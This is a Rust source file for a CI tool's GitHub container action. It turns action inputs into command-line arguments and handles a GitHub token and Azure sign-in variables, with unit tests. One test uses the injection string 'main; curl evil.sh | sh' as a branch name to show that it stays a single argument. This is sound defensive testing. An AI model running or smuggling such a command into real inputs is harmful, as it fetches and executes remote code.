//! `flow-ci action`, the entry point of the GitHub container action: GitHub
//! passes the inputs of `action.yml` as `INPUT_<NAME>` variables (upper
//! case, hyphens kept). They become `check` arguments here, never a shell
//! script, so a branch name or config path cannot inject commands.

use super::Env;

/// What one input of `action.yml` becomes.
#[derive(Clone, Copy, Debug)]
pub enum Maps {
    /// `check --flag VALUE`, omitted when empty.
    Flag(&'static str),
    /// `check --flag` when the input is `true`.
    Switch(&'static str),
    /// The global `-C DIR`.
    Directory,
    /// Read where it is used (the token when publishing).
    Token,
    /// An environment variable for Azure sign-in (OIDC) of the run's nodes.
    AzureVariable(&'static str),
}

/// Every input `action.yml` declares, in its order (a test keeps them equal).
pub const INPUTS: &[(&str, Maps)] = &[
    ("config", Maps::Flag("--config")),
    ("base", Maps::Flag("--base")),
    ("backend", Maps::Flag("--backend")),
    ("github-token", Maps::Token),
    ("comment-mode", Maps::Flag("--comment-mode")),
    ("fail-on-gate", Maps::Flag("--fail-on-gate")),
    ("on-missing-secrets", Maps::Flag("--on-missing-secrets")),
    ("dry-run", Maps::Switch("--dry-run")),
    ("working-directory", Maps::Directory),
    ("azure-client-id", Maps::AzureVariable("AZURE_CLIENT_ID")),
    ("azure-tenant-id", Maps::AzureVariable("AZURE_TENANT_ID")),
    ("azure-subscription-id", Maps::AzureVariable("AZURE_SUBSCRIPTION_ID")),
];

/// Every output the binary writes to `$GITHUB_OUTPUT`.
pub const OUTPUTS: &[&str] = &["passed", "report-path", "failed-gates", "not-run"];

/// The variable GitHub sets for input `name`.
pub fn variable(name: &str) -> String {
    format!("INPUT_{}", name.to_uppercase().replace(' ', "_"))
}

/// The inputs as a `flow-ci` command line (`flow-ci -C DIR check ...`),
/// publishing to GitHub.
pub fn check_command(env: Env<'_>) -> Result<Vec<String>, String> {
    let mut global = vec!["flow-ci".to_string()];
    let mut check = vec!["check".to_string(), "--publish".into(), "github".into()];
    for (name, maps) in INPUTS {
        let Some(value) = env(&variable(name)).map(|v| v.trim().to_string()).filter(|v| !v.is_empty()) else {
            continue;
        };
        match maps {
            Maps::Flag(flag) => check.extend([flag.to_string(), value]),
            Maps::Switch(flag) => match value.as_str() {
                "true" => check.push(flag.to_string()),
                "false" => {}
                other => return Err(format!("input `{name}` must be true or false, found `{other}`")),
            },
            Maps::Directory => global.extend(["-C".to_string(), value]),
            Maps::Token | Maps::AzureVariable(_) => {}
        }
    }
    global.extend(check);
    Ok(global)
}

/// Azure sign-in variables the inputs set (`azure-client-id` → `AZURE_CLIENT_ID`).
pub fn azure_variables(env: Env<'_>) -> Vec<(&'static str, String)> {
    INPUTS
        .iter()
        .filter_map(|(name, maps)| match maps {
            Maps::AzureVariable(var) => Some((*var, env(&variable(name)).filter(|v| !v.is_empty())?)),
            _ => None,
        })
        .collect()
}

/// The token for GitHub's API: the `github-token` input, else `GITHUB_TOKEN`.
pub fn github_token(env: Env<'_>) -> Option<String> {
    env(&variable("github-token")).or_else(|| env("GITHUB_TOKEN")).filter(|t| !t.trim().is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn env_of(pairs: &'static [(&'static str, &'static str)]) -> impl Fn(&str) -> Option<String> {
        move |k| pairs.iter().find(|(n, _)| *n == k).map(|(_, v)| v.to_string())
    }

    #[test]
    fn inputs_become_arguments_and_empty_ones_are_left_out() {
        let env = env_of(&[
            ("INPUT_CONFIG", "ci/.flow-ci.yaml"),
            ("INPUT_BASE", ""),
            ("INPUT_BACKEND", "local"),
            ("INPUT_COMMENT-MODE", "update"),
            ("INPUT_FAIL-ON-GATE", "false"),
            ("INPUT_DRY-RUN", "true"),
            ("INPUT_WORKING-DIRECTORY", "services/flows"),
            ("INPUT_GITHUB-TOKEN", "ghs_secret"),
        ]);
        let argv = check_command(&env).unwrap();
        assert_eq!(
            argv.join(" "),
            "flow-ci -C services/flows check --publish github --config ci/.flow-ci.yaml --backend local \
             --comment-mode update --fail-on-gate false --dry-run"
        );
        assert!(!argv.iter().any(|a| a.contains("ghs_secret")), "the token never goes on a command line");
        assert_eq!(github_token(&env).as_deref(), Some("ghs_secret"));
    }

    #[test]
    fn a_branch_name_stays_one_argument() {
        let env = env_of(&[("INPUT_BASE", "main; curl evil.sh | sh"), ("INPUT_DRY-RUN", "false")]);
        let argv = check_command(&env).unwrap();
        assert_eq!(argv[argv.len() - 1], "main; curl evil.sh | sh");
        assert!(check_command(&env_of(&[("INPUT_DRY-RUN", "yes")])).is_err());
    }

    #[test]
    fn azure_inputs_become_sign_in_variables() {
        let env = env_of(&[("INPUT_AZURE-CLIENT-ID", "cid"), ("INPUT_AZURE-TENANT-ID", "tid")]);
        assert_eq!(azure_variables(&env), vec![("AZURE_CLIENT_ID", "cid".into()), ("AZURE_TENANT_ID", "tid".into())]);
    }
}
